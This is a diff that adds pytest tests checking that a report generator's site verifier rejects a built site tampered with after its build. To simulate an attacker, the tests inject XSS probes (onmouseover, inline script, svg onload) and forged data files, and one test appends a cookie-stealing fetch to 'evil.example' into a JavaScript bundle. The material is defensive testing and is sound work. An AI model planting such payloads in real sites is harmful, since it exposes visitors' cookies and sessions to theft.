@@ -122,3 +122,115 @@ def test_a_site_inside_a_site_is_refused(tmp_path, inner):
 
 
 SPECIAL = {"words_value_markup_guard", "csp_no_inline_or_eval", "site_dir_inside_site"}
+
+
+# -- F03-F09, F11: a built site edited after its build -------------------------------------------
+
+def _verify_problems(project, rebuild=False):
+    from reportgen.publish import verify
+    with pytest.raises(ReportError) as err:
+        verify.verify(project, project / "site", rebuild=rebuild)
+    assert all("\n" not in p and "Traceback" not in p for p in err.value.problems)
+    return "\n".join(err.value.problems)
+
+
+def _relist(site):
+    """The attacker who also rewrites the site's list of files."""
+    from reportgen.publish import sitecheck
+    sitecheck.write_manifest(site)
+
+
+def _edit(path, old, new):
+    text = path.read_text(encoding="utf-8")
+    assert old in text
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def test_verify_refuses_event_attributes_and_inline_scripts_anywhere(built_copy):
+    site = built_copy / "site"
+    _edit(site / "gemm.html", "<article", "<article onmouseover=alert(1)")
+    _edit(site / "int8.html", "</article>", "<script>alert(1)</script></article>")
+    svg = sorted((site / "assets" / "charts").glob("*.svg"))[0]
+    _edit(svg, "<svg", "<svg onload=alert(1)")
+    _relist(site)
+    text = _verify_problems(built_copy)
+    assert f"{site / 'gemm.html'}: <article onmouseover='alert(1)'>: {_expect('verify_event_attribute')}" in text
+    assert f"{site / 'int8.html'}: <script>: {_expect('verify_inline_script')}" in text
+    assert f"{svg}: <svg onload='alert(1)'>: {_expect('verify_event_attribute')}" in text
+
+
+def test_verify_refuses_a_file_the_build_did_not_write_and_a_changed_bundle(built_copy):
+    site = built_copy / "site"
+    (site / "evil.html").write_text("<html><head></head><body>hi</body></html>", encoding="utf-8")
+    (site / "assets" / "evil.html").write_text("<p>hi</p>", encoding="utf-8")
+    bundle = sorted((site / "assets" / "javascripts").glob("bundle.*.js"))[0]
+    bundle.write_bytes(bundle.read_bytes() + b"\nfetch('//evil.example/'+document.cookie);\n")
+    text = _verify_problems(built_copy)
+    assert f"{site / 'evil.html'}: {_expect('verify_planted_page')}" in text
+    assert f"{site / 'assets' / 'evil.html'}: {_expect('verify_planted_page')}" in text
+    assert f"{bundle}: {_expect('verify_changed_bundle')}" in text
+
+
+def test_verify_rebuilds_what_it_can_and_refuses_a_consistent_forgery(built_copy):
+    """numbers.json and the page's figure forged together, the list of files rewritten to match: the
+    fresh build from results/ has the figure's own digits (and the chart data, the CSV downloads and
+    coverage.json, each tampered here too)."""
+    import json
+    import re
+    from reportgen.publish import verify
+    site = built_copy / "site"
+    assert verify.verify(built_copy, site, rebuild=True)   # an untouched site is what a fresh build writes
+    index = json.loads((site / "numbers.json").read_text(encoding="utf-8"))
+    entry = next(e for e in index if e["kind"] == "current" and e["page"] == "gemm.md")
+    entry["value"] = "99999"
+    (site / "numbers.json").write_text(json.dumps(index, ensure_ascii=False, indent=1), encoding="utf-8")
+    page = site / "gemm.html"
+    text = page.read_text(encoding="utf-8")
+    figure = re.compile(r'(<a class="num cur" data-num="%s"[^>]*>)[^<]+</a>' % re.escape(entry["id"]))
+    page.write_text(figure.sub(lambda m: m.group(1) + "99999</a>", text), encoding="utf-8")
+    chart_page = next(p for p in sorted(site.glob("*.html")) if 'id="spec-' in p.read_text(encoding="utf-8"))
+    text = chart_page.read_text(encoding="utf-8")
+    at = re.compile(r"\d").search(text, text.index('"values": [', text.index('id="spec-'))).start()
+    chart_page.write_text(text[:at] + str((int(text[at]) + 1) % 10) + text[at + 1:], encoding="utf-8")
+    csv = sorted((site / "csv").glob("*.csv"))[0]
+    csv.write_text(csv.read_text(encoding="utf-8") + "forged,1\n", encoding="utf-8")
+    coverage = json.loads((site / "coverage.json").read_text(encoding="utf-8"))
+    coverage[0]["covered"] = not coverage[0]["covered"]
+    (site / "coverage.json").write_text(json.dumps(coverage, ensure_ascii=False), encoding="utf-8")
+    _relist(site)
+    assert verify.verify(built_copy, site)   # every check that trusts the site's own files passes
+    text = _verify_problems(built_copy, rebuild=True)
+    for path, case in ((site / "numbers.json", "verify_consistent_forgery"), (page, "verify_consistent_forgery"),
+                       (chart_page, "verify_chart_data_tampered"), (csv, "verify_csv_tampered"),
+                       (site / "coverage.json", "verify_coverage_tampered")):
+        assert f"{path}: {_expect(case)}" in text, (case, text)
+
+
+def test_reportgen_verify_and_pdf_rebuild():
+    import inspect
+    from reportgen import cli
+    from reportgen.commands import pdf
+    assert "rebuild=True" in inspect.getsource(cli.verify_command.callback)
+    assert "rebuild=True" in inspect.getsource(pdf.write_pdf)
+
+
+@pytest.mark.parametrize("case", ["verify_huge_index", "verify_deep_index"])
+def test_a_huge_or_deep_figure_index_is_one_line(built_copy, case):
+    import time
+    site = built_copy / "site"
+    if case == "verify_huge_index":
+        with open(site / "numbers.json", "wb") as fh:   # 500 MB that take no disk
+            fh.truncate(500 * 2**20)
+    else:
+        (site / "numbers.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
+        _relist(site)   # (a list of files cannot name the huge one: it is refused unread, unhashed)
+    started = time.monotonic()
+    text = _verify_problems(built_copy)
+    assert time.monotonic() - started < 60
+    assert f"{site / 'numbers.json'}: " in text and _expect(case) in text, text
+    assert "internal error" not in text and "MemoryError" not in text and "RecursionError" not in text
+
+
+SPECIAL |= {"verify_event_attribute", "verify_inline_script", "verify_planted_page", "verify_changed_bundle",
+            "verify_consistent_forgery", "verify_chart_data_tampered", "verify_csv_tampered",
+            "verify_coverage_tampered", "verify_huge_index", "verify_deep_index"}
